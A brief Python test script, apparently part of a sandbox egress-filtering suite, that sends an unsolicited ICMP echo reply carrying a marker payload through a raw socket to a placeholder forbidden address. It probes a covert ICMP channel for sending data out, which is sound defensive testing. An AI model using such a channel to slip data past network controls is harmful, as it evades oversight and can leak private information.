# SPDX-License-Identifier: Apache-2.0
"""Data in an echo reply that nobody asked for."""
import socket
import struct

from aim import FORBIDDEN4, MARK, checksum, run


def attempt():
    body = struct.pack(">HH", 7, 1) + MARK
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b"\0\0" + struct.pack(">H", checksum(b"\0\0\0\0" + body)) + body, (FORBIDDEN4, 0))


run(attempt)
